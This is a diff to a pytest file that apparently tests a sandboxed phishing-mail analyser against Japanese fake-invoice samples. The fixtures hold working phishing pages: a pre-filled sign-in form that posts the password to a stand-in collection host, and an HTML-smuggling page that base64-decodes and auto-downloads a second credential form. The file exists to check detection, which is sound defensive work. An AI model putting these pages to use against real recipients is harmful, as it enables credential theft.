@@ -16,31 +16,35 @@ pytestmark = [pytest.mark.needs_browser, pytest.mark.needs_bubblewrap, pytest.ma
 RECIPIENT = "haruka.mizuno@mizuno-works.example"
 
 
-def _message(link: str) -> bytes:
-    mail = EmailMessage()
-    mail["From"], mail["To"], mail["Subject"] = "経理 <keiri@colonista.jp>", RECIPIENT, "請求書"
-    mail["Date"], mail["Message-ID"] = "Wed, 11 Oct 2023 14:40:31 +0900", "<a1@colonista.jp>"
-    mail.set_content(f"請求書を確認してください。{link}")
+def _asking() -> str:
+    """A page that asks for a password and knows who received it."""
     who = base64.b64encode(RECIPIENT.encode()).decode()
-    page = (
+    return (
         "<!DOCTYPE html><html lang=ja><meta charset=utf-8><title>請求書の表示</title><h1>サインイン</h1>"
         "<form method=post action=http://chinonso.net/collect.php><label>メールアドレス<input id=m name=mail></label>"
         f"<label>パスワード<input type=password name=pw></label><button>表示</button></form><script>m.value = atob('{who}')</script>"
     )
+
+
+def _message(link: str, page: str) -> bytes:
+    mail = EmailMessage()
+    mail["From"], mail["To"], mail["Subject"] = "経理 <keiri@colonista.jp>", RECIPIENT, "請求書"
+    mail["Date"], mail["Message-ID"] = "Wed, 11 Oct 2023 14:40:31 +0900", "<a1@colonista.jp>"
+    mail.set_content(f"請求書を確認してください。{link}")
     mail.add_attachment(page.encode(), maintype="text", subtype="html", filename="請求書.html")
     return mail.as_bytes()
 
 
-def _examined(folder: Path, link: str) -> Outcome:
+def _examined(folder: Path, link: str, page: str) -> Outcome:
     t3 = Variant(T3, folder)
-    t3.message = t3.message[: t3.message.index(b"From: IT-Webmail")] + _message(link)
+    t3.message = t3.message[: t3.message.index(b"From: IT-Webmail")] + _message(link, page)
     return t3.examine(visit=True, visit_profiles=("desktop-ja",))
 
 
 @pytest.fixture(scope="module")
 def outcome(tmp_path_factory: pytest.TempPathFactory) -> Outcome:
     """A mail with a link to a page without fields, and an attached page that asks for a password."""
-    return _examined(tmp_path_factory.mktemp("attached"), "http://chinonso.net/nothing-here")
+    return _examined(tmp_path_factory.mktemp("attached"), "http://chinonso.net/nothing-here", _asking())
 
 
 def test_both_are_visited_the_link_first(outcome: Outcome) -> None:
@@ -81,3 +85,24 @@ def test_the_case_is_verified_and_replayed(outcome: Outcome, tmp_path: Path) -> 
     again = replay(folder, outcome.case.run.fuwake)
     assert again.case.attached_page == outcome.case.attached_page
     assert not any(RECIPIENT.encode() in file.read_bytes() for file in (folder / "evidence").iterdir()), "not even in the raw answers"
+
+
+def test_a_page_that_an_attached_page_puts_together_is_opened_too(tmp_path: Path) -> None:
+    inner = "<!DOCTYPE html><html lang=ja><meta charset=utf-8><title>請求書</title><form method=post action=http://chinonso.net/in.php>"
+    inner += (
+        "<label>メールアドレス<input name=mail></label><label>パスワード<input type=password name=pw></label><button>表示</button></form>"
+    )
+    coded = base64.b64encode(inner.encode()).decode()
+    outer = (
+        f"<!DOCTYPE html><meta charset=utf-8><p>請求書を作成しています</p><a id=a download=invoice.html></a><script>"
+        f"const bytes = Uint8Array.from(atob('{coded}'), (sign) => sign.charCodeAt(0));"
+        "a.href = URL.createObjectURL(new Blob([bytes], {type: 'text/html'})); a.click();</script>"
+    )
+    outcome = _examined(tmp_path / "work", "http://chinonso.net/nothing-here", outer)
+    page = outcome.case.attached_page
+    assert page is not None
+    assert (page.part, [field.kind for field in page.fields]) == ("handed-over", ["email", "password"])
+    assert [target.url for target in page.targets] == ["http://chinonso.net/in.php"]
+    assert "ページが渡したファイルはメールアドレスとパスワードの入力を求めています" in outcome.ja
+    assert "The file that the page handed over asks for mail address and password" in outcome.en
+    assert verify(save(outcome.dissection, tmp_path, {})) == ()
